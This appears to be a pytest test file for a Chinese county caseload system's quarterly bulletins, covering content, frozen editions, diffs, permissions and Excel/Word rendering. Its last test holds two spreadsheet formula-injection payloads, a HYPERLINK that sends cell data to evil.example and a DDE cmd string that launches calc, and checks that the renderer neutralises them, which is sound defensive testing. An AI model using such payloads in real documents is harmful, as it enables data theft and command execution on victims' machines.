"""Quarterly bulletins: content, freezing, editions and their differences, files and charts."""

from __future__ import annotations

import io
import logging
from decimal import Decimal

import pytest
from docx import Document
from openpyxl import load_workbook
from sqlalchemy import select

from core.audit.models import AuditEntry
from core.enums import OutcomeKind, Role
from core.errors import DomainError, ValidationFailed
from core.indicators import bulletins, render
from core.indicators.models import Bulletin
from core.principal import Principal
from tests.indicators.conftest import Scenario
from tests.indicators.helpers import D


async def test_content_of_the_third_quarter(scenario: Scenario):
    c = await bulletins.build_content(scenario.ctx, scenario.org.jurisdiction.id, 2024, 3)
    assert c.title == "测试县2024年第三季度行政复议与行政应诉工作情况通报"
    assert (c.period_label, c.ytd_label, c.data_as_of) == ("2024年第三季度", "2024年1—9月", D(2024, 9, 30))
    volume = c.line("case_volume")
    assert (volume.quarter.numerator, volume.ytd.numerator, volume.ytd_previous.numerator) == (1, 4, 1)
    assert volume.change_zh == "同比上升300.00%"
    loss = c.line("loss_rate")
    assert (loss.ytd.numerator, loss.ytd.denominator, loss.ytd.display) == (2, 4, "50.00%")
    assert loss.change_zh == "同比下降50.00个百分点"  # 2023 Jan–Sep: 1 of 1
    assert c.line("hidden_losses").ytd.numerator == 0  # the withdrawal on 8 October is in Q4
    assert c.line("correction_rate").ytd.display == "50.00%"
    agency = next(u for u in c.units if u.name == "县自然资源局")
    assert (agency.quarter_cases, agency.cases, agency.concluded, agency.lost) == (1, 3, 3, 1)
    assert (agency.hearings, agency.attended, agency.appearance_rate.display) == (3, 1, "33.33%")
    assert agency.withdrawn_mediated == 1 and agency.loss_risk == 0
    assert c.summary[0].startswith("2024年1—9月，全县新收一审行政诉讼案件4件，同比上升300.00%")
    assert "败诉率50.00%" in c.summary[1]
    assert [p.label_zh for p in c.series[0].points] == [f"{m}月" for m in range(1, 10)]
    assert [p.numerator for p in c.series[0].points] == [1, 1, 0, 0, 1, 0, 0, 0, 1]
    assert {d.indicator for d in c.definitions} >= {"loss_rate", "head_appearance_rate"}


async def test_a_published_bulletin_is_frozen_and_editions_differ(scenario: Scenario):
    ctx, jid = scenario.ctx, scenario.org.jurisdiction.id
    first = await bulletins.publish(ctx, jid, 2024, 3, note="首次发布")
    await ctx.session.commit()
    frozen = dict(first.content)
    # A late correction: another lawsuit against the township filed in August, lost in September.
    late = await scenario.rec.case(scenario.township, D(2024, 8, 1))
    await scenario.rec.hearing(late, D(2024, 9, 2), attended=False)
    await scenario.rec.outcome(late, OutcomeKind.REVOKED, D(2024, 9, 2))
    await ctx.session.commit()
    reloaded = await ctx.session.get(Bulletin, first.id)
    await ctx.session.refresh(reloaded)
    assert reloaded.content == frozen
    assert bulletins.content_of(reloaded).line("case_volume").ytd.numerator == 4

    second = await bulletins.publish(ctx, jid, 2024, 3)
    await ctx.session.commit()
    assert (first.edition, second.edition) == (1, 2)
    assert first.content_hash != second.content_hash
    assert bulletins.content_of(second).line("case_volume").ytd.numerator == 5
    listed = await bulletins.list_bulletins(ctx, jid, year=2024)
    assert [b.edition for b in listed] == [2, 1]

    changes = {c.path: c for c in await bulletins.compare(ctx, first.id, second.id)}
    volume = changes["indicators[case_volume].ytd.numerator"]
    assert (volume.before, volume.after, volume.kind) == ("4", "5", "changed")
    assert volume.label_zh == "指标“发案量” · 年初至今 · 分子"
    township = changes[f"units[{scenario.township.id}].lost"]
    assert (township.before, township.after) == ("1", "2")
    assert township.label_zh == "单位“城关镇” · 败诉案件"
    assert "indicators[loss_rate].ytd.value" in changes
    assert not any(path.endswith(".display") for path in changes)
    assert await bulletins.compare(ctx, first.id, first.id) == []
    entry = await ctx.session.scalar(select(AuditEntry).where(AuditEntry.action == "bulletin.publish"))
    assert entry is not None and entry.entity_type == "bulletins"


async def test_publishing_is_refused_for_the_future_and_for_readers(scenario: Scenario, make_ctx):
    with pytest.raises(ValidationFailed) as future:
        await bulletins.publish(scenario.ctx, scenario.org.jurisdiction.id, 2025, 2)
    assert future.value.field == "quarter"
    leader = make_ctx(
        Principal(user="l", role=Role.LEADER, jurisdiction_id=scenario.org.jurisdiction.id),
        today=D(2025, 1, 15),
    )
    with pytest.raises(DomainError) as forbidden:
        await bulletins.publish(leader, scenario.org.jurisdiction.id, 2024, 3)
    assert forbidden.value.code == "forbidden"


async def test_the_files_open_and_show_the_same_numbers(scenario: Scenario):
    c = await bulletins.build_content(scenario.ctx, scenario.org.jurisdiction.id, 2024, 3)
    wb = load_workbook(io.BytesIO(render.xlsx(c)))
    assert wb.sheetnames == ["通报概况", "单位情况", "排名", "目标", "考核", "趋势"]
    summary = wb["通报概况"]
    assert summary["A1"].value == c.title
    rows = {r[0]: r for r in summary.iter_rows(values_only=True) if r and r[0]}
    loss = rows["败诉率"]
    # A rate is the fraction it is, shown as a percentage: 50.00% is 0.5 with a percent format.
    assert c.line("loss_rate").ytd.value == Decimal("50.00") and loss[4] == 0.5
    loss_cell = next(r for r in summary.iter_rows() if r[0].value == "败诉率")[4]
    assert loss_cell.number_format == "0.00%"
    assert loss[6] == "同比下降50.00个百分点"
    # No data is an empty cell, not a dash a formula would trip on.
    assert rows["发案量"][4] == 4 and rows["行政复议纠错率"][5] is None
    units = {r[0]: r for r in wb["单位情况"].iter_rows(min_row=2, values_only=True)}
    agency = next(u for u in c.units if u.name == "县自然资源局")
    assert units["县自然资源局"][:6] == ("县自然资源局", 1, 3, 0, 3, 1)
    assert Decimal(str(units["县自然资源局"][6])) * 100 == agency.loss_rate.value
    # Native, editable charts over the trend table; a series of nothing is said in words instead.
    trends = wb["趋势"]
    flat = [s for s in c.series if render.is_flat(s)]
    assert len(trends._charts) + len(flat) == len(c.series) == 4 and not trends._images
    assert all(ch.tagname == "lineChart" for ch in trends._charts)
    words = {cell.value for row in trends.iter_rows() for cell in row if isinstance(cell.value, str)}
    assert all(render._flat_series_zh(c, s) in words for s in flat)

    doc = Document(io.BytesIO(render.docx(c)))
    text = "\n".join(p.text for p in doc.paragraphs)
    assert c.title in text and c.summary[0] in text
    main = next(t for t in doc.tables if t.rows[0].cells[0].text == "指标")
    by_label = {row.cells[0].text: [cell.text for cell in row.cells] for row in main.rows[1:]}
    assert by_label["败诉率"][3] == "50.00%" and by_label["发案量"][3] == "4"
    unit_table = next(t for t in doc.tables if t.rows[0].cells[0].text == "单位")
    assert [cell.text for cell in unit_table.rows[1].cells][:2] == [
        c.units[0].name,
        str(c.units[0].quarter_cases),
    ]
    assert len(doc.inline_shapes) == 4


def test_charts_use_an_installed_cjk_font():
    path = render.cjk_font()
    points = (bulletins.BulletinPoint("2024-01", "1月", 2, 4, Decimal("50.00"), "50.00%"),)
    png = render.chart(
        bulletins.BulletinSeries("loss_rate", "loss_rate", "败诉率", "%", points), "败诉率逐月走势"
    ).png
    assert png.startswith(b"\x89PNG")
    if path is None:
        pytest.skip("no CJK font on this machine (install fonts-wqy-microhei or fonts-noto-cjk)")
    assert path.endswith((".ttc", ".ttf", ".otf"))


def test_without_a_cjk_font_charts_still_render_and_warn(monkeypatch, caplog):
    monkeypatch.setattr(render, "CJK_FONT_FILES", ())
    monkeypatch.delenv("CASELOAD_CJK_FONT", raising=False)
    from matplotlib import font_manager

    monkeypatch.setattr(font_manager.fontManager, "ttflist", [])
    render.cjk_font.cache_clear()
    try:
        with caplog.at_level(logging.WARNING, logger="caseload.indicators.render"):
            points = (bulletins.BulletinPoint("2024-01", "1月", 1, None, Decimal(1), "1"),)
            chart = render.chart(
                bulletins.BulletinSeries("case_volume", "case_volume", "发案量", "件", points), "发案量"
            )
        assert chart.png.startswith(b"\x89PNG")
        assert "no CJK font installed" in caplog.text
    finally:
        render.cjk_font.cache_clear()


async def test_the_bulletin_workbook_neutralises_formula_text(scenario: Scenario):
    import dataclasses

    c = await bulletins.build_content(scenario.ctx, scenario.org.jurisdiction.id, 2024, 3)
    payload = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'
    c = dataclasses.replace(c, title=payload, summary=["=cmd|' /C calc'!A0", *c.summary[1:]])
    wb = load_workbook(io.BytesIO(render.xlsx(c)))
    summary = wb["通报概况"]
    assert (summary["A1"].value, summary["A1"].data_type) == ("'" + payload, "s")
    assert summary["A4"].value == "'=cmd|' /C calc'!A0" and summary["A4"].data_type == "s"
